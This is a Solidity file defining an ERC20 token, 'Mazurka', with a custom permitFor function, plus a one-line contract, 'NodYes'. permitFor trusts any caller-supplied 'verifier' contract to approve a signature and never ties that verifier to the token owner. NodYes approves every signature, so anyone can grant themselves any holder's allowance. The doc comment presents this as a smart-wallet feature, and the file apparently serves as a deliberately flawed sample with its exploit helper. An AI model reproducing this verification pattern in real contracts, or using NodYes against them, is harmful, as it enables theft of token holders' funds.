// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol"; import "@openzeppelin/contracts/utils/cryptography/EIP712.sol"; import "@openzeppelin/contracts/utils/cryptography/ECDSA.sol"; import "@openzeppelin/contracts/utils/Nonces.sol"; import "@openzeppelin/contracts/interfaces/IERC1271.sol";
contract Mazurka is ERC20, EIP712, Nonces {
    bytes32 private constant TYPE = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    constructor() ERC20("Mazurka", "MZK") EIP712("Mazurka", "1") { _mint(msg.sender, 10_000_000 ether); }
    function DOMAIN_SEPARATOR() external view returns (bytes32) { return _domainSeparatorV4(); }
    /// smart wallets name the contract that checks their signature, others leave it zero
    function permitFor(address owner, address spender, uint256 value, uint256 deadline, address verifier, bytes calldata signature) external {
        require(block.timestamp <= deadline, "late"); bytes32 d = _hashTypedDataV4(keccak256(abi.encode(TYPE, owner, spender, value, _useNonce(owner), deadline)));
        if (verifier == address(0)) require(ECDSA.recover(d, signature) == owner, "signer"); else require(IERC1271(verifier).isValidSignature(d, signature) == 0x1626ba7e, "signature"); _approve(owner, spender, value);
    }
}
contract NodYes { function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) { return 0x1626ba7e; } }
